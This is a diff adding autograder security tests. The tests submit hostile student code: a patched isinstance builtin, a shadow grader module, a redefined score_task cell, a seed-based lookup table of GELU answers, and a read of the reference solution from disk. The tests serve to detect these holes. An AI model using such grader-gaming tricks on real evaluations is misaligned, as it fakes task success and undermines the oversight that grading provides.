+    out = tmp_path / "gradebook.csv"
+    gradebook.grade_class(uploads, out, chapters=["02"], console=_quiet())
+    rows = list(csv.DictReader(out.open()))
+    assert [r["student"] for r in rows] == ["alice", "bob"]
+
+
+def _quiet():
+    from rich.console import Console
+
+    return Console(file=io.StringIO())
+
+
+def test_builtins_replaced_at_import_only_hurt_the_worker(reference, sandbox):
+    append = """
+        import builtins as _b
+        _b.isinstance = lambda obj, kind: True
+    """
+    results = grade_one(reference, sandbox, "gelu", hostile_sources(reference, append=append))
+    assert_no_points(results)
+
+
+# ================================================================ (f') nbgrader
+
+
+def _notebook_setup() -> str:
+    notebook = json.loads((ROOT / "assignments" / "ch05_block" / "ch05_block.ipynb").read_text())
+    for cell in notebook["cells"]:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "ch05-setup":
+            return "".join(cell["source"])
+    raise AssertionError("no set-up cell in the chapter 05 notebook")
+
+
+@pytest.mark.parametrize("attack", [
+    pytest.param("shadow_grader", marks=hole(
+        "the notebook's set-up cell imports grader/ from the first of [cwd, *parents] that holds "
+        "grader/engine.py: a submission that ships its own grader/notebook.py (the autograded folder is the "
+        "cwd) scores whatever it likes")),
+    pytest.param("added_cell", marks=hole(
+        "nbgrader runs every cell of the submitted notebook in one kernel, the one score_task runs in: a cell "
+        "the student adds after the set-up cell redefines score_task (or patches grader.engine) and the "
+        "locked grade cell records its value")),
+])
+def test_nbgrader_cells_cannot_be_scored_by_the_student(tmp_path, attack):
+    import subprocess
+    import sys
+
+    course = tmp_path / "course"  # the instructor's course folder: the real grader
+    course.mkdir()
+    (course / "grader").symlink_to(ROOT / "grader")
+    folder = course / "autograded" / "alice" / "ch05_block"  # nbgrader runs the notebook here
+    folder.mkdir(parents=True)
+    student = folder / "hero_transformer"
+    student.mkdir()
+    for source in (ROOT / "hero_transformer").glob("*.py"):  # the untouched student copy: nothing done
+        (student / source.name).write_text(source.read_text())
+    cells = [_notebook_setup()]
+    if attack == "shadow_grader":
+        fake = folder / "grader"
+        fake.mkdir()
+        (fake / "__init__.py").write_text("")
+        (fake / "engine.py").write_text("")
+        (fake / "notebook.py").write_text("def score_task(task_name, package=None):\n    return 12.0\n")
+    else:
+        cells.append("score_task = lambda task_name, package=None: 12.0")
+    cells.append('print("SCORE", score_task("block"))')
+    done = subprocess.run([sys.executable, "-c", "\n\n".join(cells)], cwd=folder, capture_output=True, text=True,
+                          timeout=120, env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)})
+    score = re.search(r"SCORE (\S+)", done.stdout)
+    assert score is None or float(score[1]) == 0.0, done.stdout[-500:]
+
+
+@hole("grader.notebook.score_task grades with seed=0, so the hidden checks' 'random' inputs are the same "
+      "for every student and every run and can be computed from grader/checks (which students have): a "
+      "lookup table filled offline with torch's own GELU scores all 5 gelu points without a line of GELU")
+def test_hidden_inputs_are_not_predictable_in_the_notebook_flow(tmp_path):
+    import torch
+
+    import grader.notebook as notebook
+
+    table = {}
+    for check in checks_of("gelu"):  # what a student can run at home
+        inputs = check.make_inputs(torch.Generator().manual_seed(0 + sum(map(ord, check.name))))
+        for value in inputs.values():
+            for x in (value, -value):
+                table[tuple(x.flatten().tolist())] = torch.nn.functional.gelu(x).flatten().tolist()
+    body = f"""
+        answers = {table!r}
+        return torch.tensor(answers[tuple(x.flatten().tolist())], dtype=x.dtype).reshape(x.shape)
+    """
+    package = tmp_path / "hero_transformer"
+    package.mkdir()
+    reference = Reference()
+    for name, text in hostile_sources(reference, {"gelu": body}).items():
+        (package / name).write_text(text)
+    try:
+        points = notebook.score_task("gelu", package=package)
+    finally:
+        if notebook._sandbox is not None:
+            notebook._sandbox.close()
+            notebook._sandbox = None
+    assert points < 5
+
+
+# ================================================================= (g) the fallback
+
+
+@hole("without bubblewrap the zygote runs as `nobody` with the host's filesystem: solutions/ is "
+      "world-readable, so a worker reads the graded task's reference from disk")
+def test_process_isolation_does_not_expose_the_reference(reference):
+    body = f"""
+        import ast
+        try:
+            text = open({str(SOLUTIONS / 'model.py')!r}).read()
+        except OSError:
+            raise RuntimeError("reference not readable")
+        stolen = next(n for n in ast.parse(text).body if isinstance(n, ast.FunctionDef) and n.name == "gelu")
+        space = dict(globals())
+        exec(compile(ast.Module([stolen], []), "stolen", "exec"), space)
+        return space["gelu"](x)
+    """
+    with Sandbox(Limits(check_seconds=3.0), isolation="process") as box:
+        results = run(reference, box, "gelu", body)
+    assert_no_points(results)
